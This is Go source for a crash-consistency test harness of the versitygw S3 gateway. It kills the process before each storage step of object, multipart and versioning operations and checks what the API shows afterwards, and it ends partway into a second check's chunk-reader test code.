	"github.com/versity/versitygw/auth"
	"github.com/versity/versitygw/backend/posix"
	"github.com/versity/versitygw/s3response"

	"verif/ck"
	"verif/sched"
)

func init() { Registry["C11"] = C11 }

const c11Bucket = "cbk"

type c11Victim struct {
	Name string
	Key  string
	Lock bool // bucket created with object lock (tags + hold + retention victim)
	// Prep runs acknowledged operations before the victim (scheduler inactive); returns context for Run
	Prep func(st *pxStore) map[string]string
	Run  func(st *pxStore, p *posix.Posix, c map[string]string) error
	// NeedsVersioning: only meaningful with a versioning directory
	NeedsVersioning bool
}

func c11Victims() []c11Victim {
	v0, v1 := mkval(0), mkval(1)
	put := func(st *pxStore, p *posix.Posix, key string, v wval, extra func(*s3response.PutObjectInput)) error {
		in := s3response.PutObjectInput{Bucket: sp(c11Bucket), Key: &key, Body: bytes.NewReader(v.Body), ContentLength: i64(int64(len(v.Body))), ContentType: &v.CT, Metadata: map[string]string{"w": v.Meta}}
		if extra != nil {
			extra(&in)
		}
		_, err := p.PutObject(st.ctx(), in)
		return err
	}
	seed := func(key string) func(st *pxStore) map[string]string {
		return func(st *pxStore) map[string]string {
			if err := put(st, st.A, key, v0, nil); err != nil {
				ck.Fatal("seed: %v", err)
			}
			return nil
		}
	}
	mpPrepF := func(key string, seedIt bool, partsFlag string) func(st *pxStore) map[string]string {
		return func(st *pxStore) map[string]string {
			if seedIt {
				if err := put(st, st.A, key, v0, nil); err != nil {
					ck.Fatal("seed: %v", err)
				}
			}
			res, err := st.A.CreateMultipartUpload(st.ctx(), s3response.CreateMultipartUploadInput{Bucket: sp(c11Bucket), Key: &key, ContentType: &v1.CT, Metadata: map[string]string{"w": v1.Meta}})
			if err != nil {
				ck.Fatal("create mpu: %v", err)
			}
			up, err := st.A.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp(c11Bucket), Key: &key, UploadId: &res.UploadId, PartNumber: i32(1), Body: bytes.NewReader(v1.Body), ContentLength: i64(int64(len(v1.Body)))})
			if err != nil {
				ck.Fatal("upload part: %v", err)
			}
			return map[string]string{"upload": res.UploadId, "etag": getS(up.ETag), "observe_parts": partsFlag}
		}
	}
	// for completion victims the key is the subject; the upload (which stays listable until its
	// directory is removed and can be completed or aborted again) is not compared
	mpPrep := func(key string, seedIt bool) func(st *pxStore) map[string]string { return mpPrepF(key, seedIt, "no") }
	retain := time.Now().Add(24 * time.Hour)
	return []c11Victim{
		{Name: "PutObject new key", Key: "k", Run: func(st *pxStore, p *posix.Posix, c map[string]string) error { return put(st, p, "k", v1, nil) }},
		{Name: "PutObject overwrite", Key: "k", Prep: seed("k"), Run: func(st *pxStore, p *posix.Posix, c map[string]string) error { return put(st, p, "k", v1, nil) }},
		{Name: "PutObject nested new key", Key: "d1/d2/k", Run: func(st *pxStore, p *posix.Posix, c map[string]string) error { return put(st, p, "d1/d2/k", v1, nil) }},
		{Name: "PutObject with tags", Key: "k", Prep: seed("k"), Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			return put(st, p, "k", v1, func(in *s3response.PutObjectInput) { in.Tagging = sp("t1=a&t2=b") })
		}},
		{Name: "PutObject with tags, legal hold and retention", Key: "k", Lock: true, Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			return put(st, p, "k", v1, func(in *s3response.PutObjectInput) {
				in.Tagging = sp("t1=a")
				in.ObjectLockLegalHoldStatus = types.ObjectLockLegalHoldStatusOn
				in.ObjectLockMode = types.ObjectLockModeGovernance
				in.ObjectLockRetainUntilDate = &retain
			})
		}},
		{Name: "CopyObject onto existing key", Key: "k", Prep: func(st *pxStore) map[string]string {
			seed("k")(st)
			if err := put(st, st.A, "src", v1, nil); err != nil {
				ck.Fatal("seed src: %v", err)
			}
			return nil
		}, Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			_, err := p.CopyObject(st.ctx(), s3response.CopyObjectInput{Bucket: sp(c11Bucket), Key: sp("k"), CopySource: sp(c11Bucket + "/src"), ExpectedBucketOwner: sp("acc1"), MetadataDirective: types.MetadataDirectiveCopy})
			return err
		}},
		{Name: "UploadPart re-upload", Key: "mk", Prep: mpPrepF("mk", false, "yes"), Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			up := c["upload"]
			v2 := mkval(2)
			_, err := p.UploadPart(st.ctx(), &s3.UploadPartInput{Bucket: sp(c11Bucket), Key: sp("mk"), UploadId: &up, PartNumber: i32(1), Body: bytes.NewReader(v2.Body), ContentLength: i64(int64(len(v2.Body)))})
			return err
		}},
		{Name: "CompleteMultipartUpload new key", Key: "mk", Prep: mpPrep("mk", false), Run: c11Complete("mk")},
		{Name: "CompleteMultipartUpload overwrite", Key: "mk", Prep: mpPrep("mk", true), Run: c11Complete("mk")},
		{Name: "DeleteObject", Key: "k", Prep: seed("k"), Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			_, err := p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: sp("k")})
			return err
		}},
		{Name: "DeleteObject nested (parent pruning)", Key: "d1/d2/k", Prep: seed("d1/d2/k"), Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			_, err := p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: sp("d1/d2/k")})
			return err
		}},
		{Name: "PutBucketVersioning Suspended", Key: "k", NeedsVersioning: true, Prep: seed("k"), Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			return p.PutBucketVersioning(st.ctx(), c11Bucket, types.BucketVersioningStatusSuspended)
		}},
		{Name: "PutObject with versioning Suspended over a version, beside a preserved null version", Key: "k", NeedsVersioning: true, Prep: func(st *pxStore) map[string]string {
			// history: a null version written while Suspended, preserved by a write while Enabled; Suspended again
			for _, step := range []func() error{
				func() error {
					return st.A.PutBucketVersioning(st.ctx(), c11Bucket, types.BucketVersioningStatusSuspended)
				},
				func() error { return put(st, st.A, "k", v0, nil) },
				func() error {
					return st.A.PutBucketVersioning(st.ctx(), c11Bucket, types.BucketVersioningStatusEnabled)
				},
				func() error { return put(st, st.A, "k", v1, nil) },
				func() error {
					return st.A.PutBucketVersioning(st.ctx(), c11Bucket, types.BucketVersioningStatusSuspended)
				},
			} {
				if err := step(); err != nil {
					ck.Fatal("suspended history: %v", err)
				}
			}
			return nil
		}, Run: func(st *pxStore, p *posix.Posix, c map[string]string) error { return put(st, p, "k", mkval(3), nil) }},
		{Name: "PutObject directory object overwrite", Key: "dd/", Prep: func(st *pxStore) map[string]string {
			if _, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c11Bucket), Key: sp("dd/"), Body: bytes.NewReader(nil), ContentLength: i64(0), Metadata: map[string]string{"w": "m0", "album": "2023"}}); err != nil {
				ck.Fatal("seed directory object: %v", err)
			}
			return nil
		}, Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			_, err := p.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c11Bucket), Key: sp("dd/"), Body: bytes.NewReader(nil), ContentLength: i64(0), Metadata: map[string]string{"w": "m1", "album": "2024"}})
			return err
		}},
		{Name: "DeleteObject by version id of the current version", Key: "k", NeedsVersioning: true, Prep: func(st *pxStore) map[string]string {
			seed("k")(st)
			if err := put(st, st.A, "k", v1, nil); err != nil {
				ck.Fatal("second version: %v", err)
			}
			out, err := st.A.HeadObject(st.ctx(), &s3.HeadObjectInput{Bucket: sp(c11Bucket), Key: sp("k")})
			if err != nil {
				ck.Fatal("head: %v", err)
			}
			return map[string]string{"vid": getS(out.VersionId)}
		}, Run: func(st *pxStore, p *posix.Posix, c map[string]string) error {
			vid := c["vid"]
			_, err := p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: sp("k"), VersionId: &vid})
			return err
		}},
	}
}

func c11Complete(key string) func(st *pxStore, p *posix.Posix, c map[string]string) error {
	return func(st *pxStore, p *posix.Posix, c map[string]string) error {
		up, etag := c["upload"], c["etag"]
		pn := int32(1)
		_, err := p.CompleteMultipartUpload(st.ctx(), &s3.CompleteMultipartUploadInput{Bucket: sp(c11Bucket), Key: &key, UploadId: &up,
			MultipartUpload: &types.CompletedMultipartUpload{Parts: []types.CompletedPart{{PartNumber: &pn, ETag: &etag}}}})
		return err
	}
}

func hashS(b []byte) string { h := sha256.Sum256(b); return hex.EncodeToString(h[:6]) }

// c11Observe renders everything the API shows about the key (and the upload), ids masked.
func c11Observe(st *pxStore, p *posix.Posix, key string, ctxm map[string]string) (out string) {
	// a request that panics would take the gateway process down: that is an observation, not a tooling error
	defer func() {
		if rec := recover(); rec != nil {
			out = "PANIC:" + ck.Short(fmt.Sprint(rec), 80) + "\n"
		}
	}()
	return c11ObserveInner(st, p, key, ctxm)
}

func c11ObserveInner(st *pxStore, p *posix.Posix, key string, ctxm map[string]string) string {
	var b strings.Builder
	if st.Cfg.Versioning {
		vs, verr := p.GetBucketVersioning(st.ctx(), c11Bucket)
		status := ""
		if vs.Status != nil {
			status = string(*vs.Status)
		}
		es := ""
		if verr != nil {
			es = errClassAPI(verr)
		}
		fmt.Fprintf(&b, "BUCKET-VERSIONING:%s %s\n", status, es)
	}
	get, err := p.GetObject(st.ctx(), &s3.GetObjectInput{Bucket: sp(c11Bucket), Key: &key, Range: sp("")})
	if err != nil {
		fmt.Fprintf(&b, "GET:%s\n", errClassAPI(err))
	} else {
		var body []byte
		var rerr error
		if get.Body != nil { // a directory object is answered without a body
			body, rerr = io.ReadAll(get.Body)
			get.Body.Close()
		}
		fmt.Fprintf(&b, "GET:len=%d sha=%s readerr=%v clen=%d etag=%s ct=%s meta=%v tagcount=%v\n", len(body), hashS(body), rerr, getI(get.ContentLength), getS(get.ETag), getS(get.ContentType), get.Metadata, i32v(get.TagCount))
		// internal consistency: size, etag and body must describe one object
		if getI(get.ContentLength) != int64(len(body)) {
			b.WriteString("INCONSISTENT:content-length-vs-body\n")
		}
		if e := getS(get.ETag); !strings.Contains(e, "-") && e != etagOf(body) {
			b.WriteString("INCONSISTENT:etag-vs-body\n")
		} else if strings.Contains(e, "-") && e != mpETag(body) {
			b.WriteString("INCONSISTENT:multipart-etag-vs-body\n")
		}
	}
	head, err := p.HeadObject(st.ctx(), &s3.HeadObjectInput{Bucket: sp(c11Bucket), Key: &key})
	if err != nil {
		fmt.Fprintf(&b, "HEAD:%s\n", errClassAPI(err))
	} else {
		fmt.Fprintf(&b, "HEAD:clen=%d etag=%s ct=%s meta=%v hold=%s mode=%s\n", getI(head.ContentLength), getS(head.ETag), getS(head.ContentType), head.Metadata, head.ObjectLockLegalHoldStatus, head.ObjectLockMode)
	}
	tags, err := p.GetObjectTagging(st.ctx(), c11Bucket, key)
	if err != nil {
		fmt.Fprintf(&b, "TAGS:%s\n", errClassAPI(err))
	} else {
		tj, _ := json.Marshal(tags)
		fmt.Fprintf(&b, "TAGS:%s\n", tj)
	}
	if hold, err := p.GetObjectLegalHold(st.ctx(), c11Bucket, key, ""); err == nil && hold != nil {
		fmt.Fprintf(&b, "HOLD:%v\n", *hold)
	}
	if ret, err := p.GetObjectRetention(st.ctx(), c11Bucket, key, ""); err == nil {
		fmt.Fprintf(&b, "RETENTION:set(%d bytes)\n", len(ret))
	}
	empty := ""
	max := int32(1000)
	lst, err := p.ListObjectsV2(st.ctx(), &s3.ListObjectsV2Input{Bucket: sp(c11Bucket), Prefix: &empty, Delimiter: &empty, StartAfter: &empty, ContinuationToken: &empty, MaxKeys: &max})
	if err != nil {
		fmt.Fprintf(&b, "LIST:%s\n", errClassAPI(err))
	} else {
		var names []string
		for _, o := range lst.Contents {
			names = append(names, fmt.Sprintf("%s(%d,%s)", getS(o.Key), getI(o.Size), getS(o.ETag)))
			if strings.Contains(getS(o.Key), ".sgwtmp") {
				b.WriteString("TEMP-NAME-LISTED\n")
			}
		}
		fmt.Fprintf(&b, "LIST:%v\n", names)
	}
	if st.Cfg.Versioning {
		lv, err := p.ListObjectVersions(st.ctx(), &s3.ListObjectVersionsInput{Bucket: sp(c11Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &empty, VersionIdMarker: &empty, MaxKeys: &max})
		if err != nil {
			fmt.Fprintf(&b, "VERSIONS:%s\n", errClassAPI(err))
		} else {
			var vs []string
			ids := map[string]bool{}
			for _, v := range lv.Versions {
				dup := ""
				if ids[getS(v.Key)+"|"+getS(v.VersionId)] {
					dup = "DUPLICATE-ID"
				}
				ids[getS(v.Key)+"|"+getS(v.VersionId)] = true
				isNull := getS(v.VersionId) == "null"
				vs = append(vs, fmt.Sprintf("%s size=%d etag=%s latest=%v null=%v %s", getS(v.Key), getI(v.Size), getS(v.ETag), v.IsLatest != nil && *v.IsLatest, isNull, dup))
			}
			for _, d := range lv.DeleteMarkers {
				vs = append(vs, fmt.Sprintf("%s MARKER latest=%v", getS(d.Key), d.IsLatest != nil && *d.IsLatest))
			}
			fmt.Fprintf(&b, "VERSIONS:%v\n", vs)
		}
	}
	if up := ctxm["upload"]; up != "" && ctxm["observe_parts"] != "no" {
		lp, err := p.ListParts(st.ctx(), &s3.ListPartsInput{Bucket: sp(c11Bucket), Key: &key, UploadId: &up, MaxParts: &max})
		if err != nil {
			fmt.Fprintf(&b, "PARTS:%s\n", errClassAPI(err))
		} else {
			var ps []string
			for _, pt := range lp.Parts {
				ps = append(ps, fmt.Sprintf("%d(%d,%s)", pt.PartNumber, pt.Size, pt.ETag))
			}
			fmt.Fprintf(&b, "PARTS:%v\n", ps)
		}
	}
	return b.String()
}

func i32v(p *int32) any {
	if p == nil {
		return nil
	}
	return *p
}

func errClassAPI(err error) string {
	s := err.Error()
	if i := strings.Index(s, "<Code>"); i >= 0 {
		if j := strings.Index(s[i:], "</Code>"); j >= 0 {
			return s[i+6 : i+j]
		}
	}
	return ck.Short(rePath.ReplaceAllString(s, "<path>"), 90)
}

var rePath = regexp.MustCompile(`"?/[^ :"]+"?`)

func C11(r *ck.Run) {
	requireInstrumented()
	r.Level = "fault_enumeration"
	r.Rule("for every victim operation (PutObject new / overwrite / nested / with tags / with tags+legal hold+retention / on a Suspended bucket over a version beside a preserved null version / of a directory object that exists, CopyObject, UploadPart re-upload, CompleteMultipartUpload new / overwrite, DeleteObject plain / nested with parent pruning / by version id, PutBucketVersioning) × storage configuration {O_TMPFILE, named temp} × {xattr, sidecar} × {unversioned, versioning enabled}: the process is killed before EVERY file-system step of the operation (the logical thread is frozen before step i, its file descriptors are closed, deferred Go code does not reach the file system), a new backend instance is started on the same storage and everything the API shows about the key is compared with the complete previous and the complete new state (an interrupted multipart completion that left the previous state must be repeatable; the key can be uploaded again and the bucket can be emptied and deleted through the API, and every crash point is run a second time to empty and delete the bucket right after the crash, without the later upload); distinct = (configuration, victim, crash point)")
	r.Assume("a killed process loses its file descriptors and runs no deferred code; page-cache contents survive (process crash, not power loss); single syscalls are atomic")
	cfgs := []pxCfg{{}, {NoTmp: true}, {Versioning: true}, {NoTmp: true, Versioning: true}}
	if r.Thorough() {
		cfgs = append(cfgs, pxCfg{Sidecar: true}, pxCfg{Sidecar: true, NoTmp: true}, pxCfg{Sidecar: true, Versioning: true}, pxCfg{Sidecar: true, NoTmp: true, Versioning: true})
	}
	victims := c11Victims()
	type job struct {
		cfg pxCfg
		v   c11Victim
	}
	var jobs []job
	for _, c := range cfgs {
		for _, v := range victims {
			if v.NeedsVersioning && !c.Versioning {
				continue
			}
			jobs = append(jobs, job{c, v})
		}
	}
	r.Sharded(16, func() {
		for ji, j := range jobs {
			if !r.Mine(ji) {
				continue
			}
			st := newPxStore("c11", j.cfg)
			c11RunVictim(r, st, j.v)
			st.Close()
		}
	})
}

func c11RunVictim(r *ck.Run, st *pxStore, v c11Victim) {
	var ctxm map[string]string
	prep := func() {
		st.wipe()
		acl := []byte(`{"Owner":"acc1","Grantees":[]}`)
		in := &s3.CreateBucketInput{Bucket: sp(c11Bucket)}
		if v.Lock {
			t := true
			in.ObjectLockEnabledForBucket = &t
		}
		if err := st.A.CreateBucket(st.ctx(), in, acl); err != nil {
			ck.Fatal("create bucket: %v", err)
		}
		if st.Cfg.Versioning && !v.Lock {
			if err := st.A.PutBucketVersioning(st.ctx(), c11Bucket, types.BucketVersioningStatusEnabled); err != nil {
				ck.Fatal("enable versioning: %v", err)
			}
		}
		// an acknowledged, unrelated operation that must stay in effect
		ov := mkval(2)
		if _, err := st.A.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c11Bucket), Key: sp("other/acked"), Body: bytes.NewReader(ov.Body), ContentLength: i64(int64(len(ov.Body)))}); err != nil {
			ck.Fatal("put other: %v", err)
		}
		ctxm = nil
		if v.Prep != nil {
			ctxm = v.Prep(st)
		}
	}
	run := func(killAt int) (*sched.Exec, error) {
		var verr error
		var s sched.Sched
		x := s.Run([]func(){func() { verr = v.Run(st, st.A, ctxm) }}, sched.RunOpts{KillThread: map[bool]int{true: 0, false: -1}[killAt >= 0], KillAtStep: killAt,
			Choose: func(int, *sched.PointRec, []string) int { return 0 }})
		return x, verr
	}
	// reference states
	prep()
	pre := c11Observe(st, st.B, v.Key, ctxm)
	x, verr := run(-1)
	if verr != nil {
		ck.Fatal("victim %q fails without a crash (%s): %v", v.Name, st.Cfg, verr)
	}
	post := c11Observe(st, st.B, v.Key, ctxm)
	n := len(x.Points)
	labels := make([]string, n)
	for i, p := range x.Points {
		labels[i] = sched.Canon(strings.ReplaceAll(p.Label, st.Dir, ""))
	}
	if strings.Contains(pre, "INCONSISTENT") || strings.Contains(post, "INCONSISTENT") || strings.Contains(post, "TEMP-NAME") || strings.Contains(post, "DUPLICATE-ID") {
		r.Violation(ck.JoinSig("no-crash", v.Name, "reference-state-inconsistent"), map[string]any{"config": st.Cfg.String(), "pre": pre, "post": post})
	}
	r.Add("victim_steps", int64(n))
	for i := 1; i < n; i++ {
		prep()
		pre2 := c11Observe(st, st.B, v.Key, ctxm)
		xk, _ := run(i)
		r.Add("evaluations", 1)
		r.Add("crash_points", 1)
		r.Distinct(fmt.Sprintf("%s|%s|%d", st.Cfg, v.Name, i))
		if len(xk.Killed) == 0 {
			ck.Fatal("crash point %d of %q was not reached", i, v.Name)
		}
		got := c11Observe(st, st.B, v.Key, ctxm)
		// masks: the pre state of this run (ids differ between runs only where random ids are masked already)
		det := map[string]any{"config": st.Cfg.String(), "victim": v.Name, "crash_before_step": i, "step": labels[i], "steps": labels, "state_before": pre2, "state_complete": post, "state_after_crash": got}
		after := "after:" + stepClass(labels[i-1])
		before := "before:" + stepClass(labels[i])
		switch {
		case got == pre2 || got == pre:
			r.Outcome("previous-state")
		case got == post:
			r.Outcome("new-state")
		default:
			r.Outcome("mixed-state")
			det["window"] = after + " / " + before
			class := c11DiffClass(pre2, post, got)
			if strings.Contains(v.Name, "versioning Suspended") {
				// for the victims on a Suspended bucket the listing difference is told apart: an entry too many loses
				// nothing, an entry of both reference states that is gone is a lost version
				class += c11VersionsDetail(pre2, post, got)
			}
			r.Violation(ck.JoinSig("crash", v.Name, metaClass(st.Cfg), "neither-previous-nor-new-state:"+class), det)
			continue
		}
		// an interrupted completion can be repeated by the client with what it was given (upload id, part ETags)
		if strings.HasPrefix(v.Name, "CompleteMultipartUpload") && (got == pre2 || got == pre) {
			if err := v.Run(st, st.B, ctxm); err != nil {
				det["retry_error"] = err.Error()
				r.Violation(ck.JoinSig("crash", v.Name, metaClass(st.Cfg), "repeating-the-interrupted-completion-fails:"+errClassAPI(err)), det)
				continue
			}
		}
		// the acknowledged unrelated object is still there
		og, err := st.B.GetObject(st.ctx(), &s3.GetObjectInput{Bucket: sp(c11Bucket), Key: sp("other/acked"), Range: sp("")})
		if err != nil {
			r.Violation(ck.JoinSig("crash", v.Name, metaClass(st.Cfg), "acknowledged-object-lost"), det)
		} else {
			og.Body.Close()
		}
		// leftovers never prevent later operations on the key or the bucket
		nv := mkval(2)
		if strings.HasSuffix(v.Key, "/") {
			nv.Body = nil // a directory object holds no data
		}
		if _, err := st.B.PutObject(st.ctx(), s3response.PutObjectInput{Bucket: sp(c11Bucket), Key: &v.Key, Body: bytes.NewReader(nv.Body), ContentLength: i64(int64(len(nv.Body)))}); err != nil && !strings.Contains(err.Error(), "lock") {
			det["followup_error"] = err.Error()
			r.Violation(ck.JoinSig("crash", v.Name, metaClass(st.Cfg), "later-PUT-fails:"+errClassAPI(err)), det)
		}
		// ... nor do they keep the bucket from being emptied and deleted through the API
		if msg := c11EmptyAndDelete(st); msg != "" {
			det["cleanup_error"] = msg
			r.Violation(ck.JoinSig("crash", v.Name, metaClass(st.Cfg), "bucket-cannot-be-emptied-and-deleted:"+strings.SplitN(msg, ":", 2)[0]), det)
		}
		// the same right after the crash, without a later upload of the key that would put the leftovers to use
		prep()
		if xk2, _ := run(i); len(xk2.Killed) == 0 {
			ck.Fatal("crash point %d of %q was not reached the second time", i, v.Name)
		}
		if msg := c11EmptyAndDelete(st); msg != "" {
			det["cleanup_error"] = msg
			r.Violation(ck.JoinSig("crash", v.Name, metaClass(st.Cfg), "bucket-cannot-be-emptied-and-deleted-right-after-the-crash:"+strings.SplitN(msg, ":", 2)[0]), det)
		}
	}
	_ = c11EmptyAndDelete
	if v.Name == "PutObject overwrite" && !st.Cfg.NoTmp && !st.Cfg.Versioning && !st.Cfg.Sidecar {
		r.Sample(map[string]any{"victim": v.Name, "config": st.Cfg.String(), "steps": labels})
	}
}

func cfgClass(c pxCfg) string { return c.String() }

// metaClass: the metadata store is part of a crash signature (the sidecar store has its own, listed, windows).
func metaClass(c pxCfg) string {
	if c.Sidecar {
		return "sidecar"
	}
	return "xattr"
}

func stepClass(label string) string {
	f := strings.Fields(label)
	if len(f) == 0 {
		return "?"
	}
	op := f[0]
	rest := strings.Join(f[1:], " ")
	switch {
	case strings.Contains(rest, ".sgwtmp/multipart"):
		return op + ":upload-dir"
	case strings.Contains(rest, ".sgwtmp"):
		return op + ":tmp"
	case strings.Contains(rest, "/ver/"):
		return op + ":versions-dir"
	case strings.Contains(rest, "/sc/"):
		return op + ":sidecar"
	}
	for _, a := range []string{"etag", "content-type", "X-Amz-Meta", "X-Amz-Tagging", "checksums", "legal-hold", "retention", "version-id", "delete-marker"} {
		if strings.Contains(rest, a) {
			return op + ":" + a
		}
	}
	return op
}

// c11DiffClass names which observations differ from both reference states.
func c11DiffClass(pre, post, got string) string {
	pl, ql, gl := strings.Split(pre, "\n"), strings.Split(post, "\n"), strings.Split(got, "\n")
	tag := func(l string) string { return strings.SplitN(l, ":", 2)[0] }
	pm, qm := map[string]string{}, map[string]string{}
	for _, l := range pl {
		pm[tag(l)] = l
	}
	for _, l := range ql {
		qm[tag(l)] = l
	}
	var parts []string
	for _, l := range gl {
		t := tag(l)
		if t == "" {
			continue
		}
		switch {
		case l == pm[t] && l == qm[t]:
		case l == pm[t]:
			parts = append(parts, t+"=old")
		case l == qm[t]:
			parts = append(parts, t+"=new")
		default:
			parts = append(parts, t+"=neither")
		}
	}
	sort.Strings(parts)
	return strings.Join(parts, ",")
}

// c11VersionsDetail compares the entries of the VERSIONS lines: "+version-lost" when an entry of the reference
// state the crash state's GET shows is missing after the crash, "+extra-entry" when the crash state has an entry more often than either reference state, "+entries-of-both-states" otherwise.
func c11VersionsDetail(pre, post, got string) string {
	entries := func(state string) map[string]int {
		m := map[string]int{}
		for _, l := range strings.Split(state, "\n") {
			if strings.HasPrefix(l, "VERSIONS:[") {
				l = strings.ReplaceAll(l, "DUPLICATE-ID", " ")
				for _, e := range strings.Split(strings.TrimSuffix(strings.TrimPrefix(l, "VERSIONS:["), "]"), "  ") {
					e = strings.TrimSpace(strings.ReplaceAll(strings.ReplaceAll(e, "latest=true", ""), "latest=false", ""))
					if e != "" {
						m[e]++
					}
				}
			}
		}
		return m
	}
	p, q, g := entries(pre), entries(post), entries(got)
	lost, extra := false, false
	line := func(state, tag string) string {
		for _, l := range strings.Split(state, "\n") {
			if strings.HasPrefix(l, tag) {
				return l
			}
		}
		return ""
	}
	// the versions the crash state must still have: those of the state its GET shows (the operation took effect
	// or it did not); when GET shows neither, those both states have
	must := map[string]int{}
	switch gl := line(got, "GET:"); {
	case gl == line(pre, "GET:"):
		must = p
	case gl == line(post, "GET:"):
		must = q
	default:
		for e, n := range p {
			if q[e] > 0 {
				must[e] = min(n, q[e])
			}
		}
	}
	for e, n := range must {
		if g[e] < n {
			lost = true
		}
	}
	for e, n := range g {
		if n > p[e] && n > q[e] {
			extra = true
		}
	}
	switch {
	case lost:
		return "+version-lost"
	case extra:
		return "+extra-entry"
	}
	return "+entries-of-both-states"
}

var _ = auth.Account{}

// c11EmptyAndDelete removes everything the API shows in the bucket (versions, delete markers, objects, uploads) and
// then deletes the bucket; returns "" or "<step>: <error class>".
func c11EmptyAndDelete(st *pxStore) string {
	p := st.B
	empty := ""
	max := int32(1000)
	if st.Cfg.Versioning {
		lv, err := p.ListObjectVersions(st.ctx(), &s3.ListObjectVersionsInput{Bucket: sp(c11Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &empty, VersionIdMarker: &empty, MaxKeys: &max})
		if err == nil {
			for _, v := range lv.Versions {
				p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: v.Key, VersionId: v.VersionId})
			}
			for _, d := range lv.DeleteMarkers {
				p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: d.Key, VersionId: d.VersionId})
			}
		}
	}
	lst, err := p.ListObjectsV2(st.ctx(), &s3.ListObjectsV2Input{Bucket: sp(c11Bucket), Prefix: &empty, Delimiter: &empty, StartAfter: &empty, ContinuationToken: &empty, MaxKeys: &max})
	if err != nil {
		return "list: " + errClassAPI(err)
	}
	for _, o := range lst.Contents {
		if _, err := p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: o.Key}); err != nil {
			return "delete-object: " + errClassAPI(err)
		}
	}
	if st.Cfg.Versioning {
		// the deletes above left markers: remove them by id
		if lv, err := p.ListObjectVersions(st.ctx(), &s3.ListObjectVersionsInput{Bucket: sp(c11Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &empty, VersionIdMarker: &empty, MaxKeys: &max}); err == nil {
			for _, v := range lv.Versions {
				p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: v.Key, VersionId: v.VersionId})
			}
			for _, d := range lv.DeleteMarkers {
				p.DeleteObject(st.ctx(), &s3.DeleteObjectInput{Bucket: sp(c11Bucket), Key: d.Key, VersionId: d.VersionId})
			}
		}
	}
	if ups, err := p.ListMultipartUploads(st.ctx(), &s3.ListMultipartUploadsInput{Bucket: sp(c11Bucket), Prefix: &empty, Delimiter: &empty, KeyMarker: &empty, UploadIdMarker: &empty, MaxUploads: &max}); err == nil {
		for _, u := range ups.Uploads {
			k, id := u.Key, u.UploadID
			p.AbortMultipartUpload(st.ctx(), &s3.AbortMultipartUploadInput{Bucket: sp(c11Bucket), Key: &k, UploadId: &id})
		}
	}
	if err := p.DeleteBucket(st.ctx(), c11Bucket); err != nil {
		return "delete-bucket: " + errClassAPI(err)
	}
	return ""
}
