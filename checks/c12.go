package checks

import (
	"bytes"
	"crypto/sha256"
	"encoding"
	"encoding/hex"
	"fmt"
	"io"
	"os"
	"reflect"
	"sort"
	"strings"
	"time"
	"unsafe"

	"github.com/versity/versitygw/s3api/utils"

	"verif/ck"
	"verif/gw"
)

func init() { Registry["C12"] = C12 }

// fragSource is the environment of a chunk reader: an encoded stream the
// explorer hands out in chosen fragments.
type fragSource struct {
	data []byte
	off  int
	// plan: how many bytes the next Read calls return; after the plan: everything
	plan       []int
	pi         int
	eofWith    bool // final bytes are delivered together with io.EOF
	eofSeen    bool
	readsAtEOF int
}

func (s *fragSource) Read(p []byte) (int, error) {
	if s.off >= len(s.data) {
		s.eofSeen = true
		s.readsAtEOF++
		return 0, io.EOF
	}
	n := len(s.data) - s.off
	if s.pi < len(s.plan) {
		n = s.plan[s.pi]
		s.pi++
	}
	if n > len(p) {
		n = len(p)
	}
	if n > len(s.data)-s.off {
		n = len(s.data) - s.off
	}
	copy(p, s.data[s.off:s.off+n])
	s.off += n
	if s.off >= len(s.data) && s.eofWith {
		s.eofSeen = true
		return n, io.EOF
	}
	return n, nil
}

// dumpState renders every field reachable from v (unexported ones too) —
// hash states through MarshalBinary — skipping the source reader.
func dumpState(v reflect.Value, b *bytes.Buffer, depth int) {
	if depth > 8 {
		b.WriteString("<deep>")
		return
	}
	switch v.Kind() {
	case reflect.Ptr, reflect.Interface:
		if v.IsNil() {
			b.WriteString("nil;")
			return
		}
		if v.Kind() == reflect.Interface || v.Kind() == reflect.Ptr {
			e := v.Elem()
			if v.CanInterface() || true {
				iv := access(v)
				if iv.IsValid() && iv.CanInterface() {
					if _, isSrc := iv.Interface().(*fragSource); isSrc {
						b.WriteString("<src>;")
						return
					}
					if m, ok := iv.Interface().(encoding.BinaryMarshaler); ok {
						if bs, err := m.MarshalBinary(); err == nil {
							b.WriteString("bin:" + hex.EncodeToString(bs) + ";")
							return
						}
					}
				}
			}
			dumpState(e, b, depth+1)
		}
	case reflect.Struct:
		b.WriteString(v.Type().String() + "{")
		for i := 0; i < v.NumField(); i++ {
			b.WriteString(v.Type().Field(i).Name + "=")
			dumpState(v.Field(i), b, depth+1)
		}
		b.WriteString("}")
	case reflect.Slice, reflect.Array:
		if v.Kind() == reflect.Slice && v.IsNil() {
			b.WriteString("nilslice;")
			return
		}
		if v.Type().Elem().Kind() == reflect.Uint8 {
			bs := make([]byte, v.Len())
			for i := range bs {
				bs[i] = byte(v.Index(i).Uint())
			}
			b.WriteString("b:" + hex.EncodeToString(bs) + ";")
			return
		}
		b.WriteString("[")
		for i := 0; i < v.Len(); i++ {
